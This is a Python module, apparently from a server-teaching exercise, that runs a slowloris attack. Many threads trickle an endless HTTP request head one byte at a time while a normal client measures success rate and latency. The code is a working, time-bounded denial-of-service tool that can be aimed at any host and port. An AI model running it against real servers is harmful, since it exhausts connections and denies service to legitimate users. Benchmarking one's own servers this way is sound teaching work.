"""Slow clients (slowloris) against one running server, and a normal client beside them: exercise 7's lesson.

N attackers each open a connection and send one byte of a never-ending request head every 1/RATE seconds;
when the server closes one (a 408, a reset, a 503), it reconnects 100 ms later — the pressure never lets up,
and a refused client does not turn into a connection flood. After a head start, a normal client sends
`GET /` on a fresh connection every 100 ms and waits up to 2 s for each answer: its success rate and latency
are the lesson (a sync worker or a pool thread is pinned from a connection's first byte; a loop pays a few
hundred bytes per trickler).

Used by benchmarks/slowloris.py (its own servers, or a running one with --url) and by the Exercises tab's
action (webmodels.exercise_actions). Threads and blocking sockets: inside Locust gevent has patched both, so
the same code runs there as greenlets. Bounded: it stops by itself after `seconds`, or at stop().
"""

from __future__ import annotations

import socket
import statistics
import threading
import time
from typing import Any

HEAD = b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: "
RECONNECT_S = 0.1
PROBE_INTERVAL_S = 0.1
PROBE_TIMEOUT_S = 2.0


class SlowClients:
    """CLIENTS tricklers at RATE bytes/s against HOST:PORT, and a normal client after HEAD_START seconds."""

    def __init__(self, host: str, port: int, clients: int = 100, rate: float = 1.0, seconds: float = 10.0,
                 head_start: float = 1.0) -> None:
        self.host, self.port, self.clients, self.rate = host, port, clients, rate
        self.seconds, self.head_start = seconds, head_start
        self.stopped = threading.Event()
        self.lock = threading.Lock()
        self.opened = self.cut = self.connected = 0
        self.tries: list[tuple[bool, float]] = []  # the normal client's (answered 200, seconds)
        self.failures: dict[str, int] = {}
        self.started_at = 0.0
        self.threads: list[threading.Thread] = []

    def start(self) -> "SlowClients":
        self.started_at = time.monotonic()
        self.threads = [threading.Thread(target=self._attacker, daemon=True, name=f"slow-{i}")
                        for i in range(self.clients)]
        self.threads.append(threading.Thread(target=self._normal, daemon=True, name="slow-normal"))
        for t in self.threads:
            t.start()
        return self

    def stop(self, wait: float = 3.0) -> "SlowClients":
        self.stopped.set()
        deadline = time.monotonic() + wait
        for t in self.threads:
            t.join(max(0.0, deadline - time.monotonic()))
        return self

    def join(self) -> "SlowClients":
        """Wait until it stops by itself (after SECONDS of the normal client)."""
        for t in self.threads:
            t.join()
        return self

    @property
    def running(self) -> bool:
        return any(t.is_alive() for t in self.threads)

    def _done(self) -> bool:
        return self.stopped.is_set() or time.monotonic() - self.started_at > self.head_start + self.seconds

    def _attacker(self) -> None:
        while not self._done():
            try:
                s = socket.create_connection((self.host, self.port), timeout=5)
            except OSError:
                self.stopped.wait(RECONNECT_S)
                continue
            with self.lock:
                self.opened += 1
                self.connected += 1
            try:
                sent = 0
                while not self._done():
                    s.sendall(HEAD[sent:sent + 1] or b"a")
                    sent += 1
                    if self.stopped.wait(1 / self.rate):
                        break
            except OSError:  # the server cut it (408, reset, 503 then close)
                with self.lock:
                    self.cut += 1
            finally:
                s.close()
                with self.lock:
                    self.connected -= 1
            self.stopped.wait(RECONNECT_S)

    def _normal(self) -> None:
        if self.stopped.wait(self.head_start):
            return
        while not self._done():
            t0 = time.monotonic()
            ok, why = False, ""
            try:
                with socket.create_connection((self.host, self.port), timeout=PROBE_TIMEOUT_S) as s:
                    s.settimeout(max(0.01, PROBE_TIMEOUT_S - (time.monotonic() - t0)))
                    s.sendall(b"GET / HTTP/1.1\r\nHost: normal\r\nConnection: close\r\n\r\n")
                    head = s.recv(100)
                    ok = head.startswith(b"HTTP/1.1 200")
                    why = "" if ok else (head[9:12].decode("latin-1", "replace") or "closed")
            except socket.timeout:
                why = "timeout"
            except OSError as exc:
                why = type(exc).__name__
            with self.lock:
                self.tries.append((ok, time.monotonic() - t0))
                if why:
                    self.failures[why] = self.failures.get(why, 0) + 1
            self.stopped.wait(max(0.0, PROBE_INTERVAL_S - (time.monotonic() - t0)))

    def summary(self) -> dict[str, Any]:
        """The normal client's tries so far (sent, ok, p50/p99 ms of the answered ones) and the attack's counts."""
        with self.lock:
            tries, failures = list(self.tries), dict(self.failures)
            opened, cut, connected = self.opened, self.cut, self.connected
        times = sorted(t for ok, t in tries if ok)
        pct = lambda q: round(times[min(len(times) - 1, int(len(times) * q))] * 1000, 1) if times else None  # noqa: E731
        return {"sent": len(tries), "ok": sum(ok for ok, _ in tries),
                "p50_ms": round(statistics.median(times) * 1000, 1) if times else None, "p99_ms": pct(0.99),
                "failures": failures, "clients": self.clients, "opened": opened, "cut": cut,
                "connected": connected, "running": self.running}
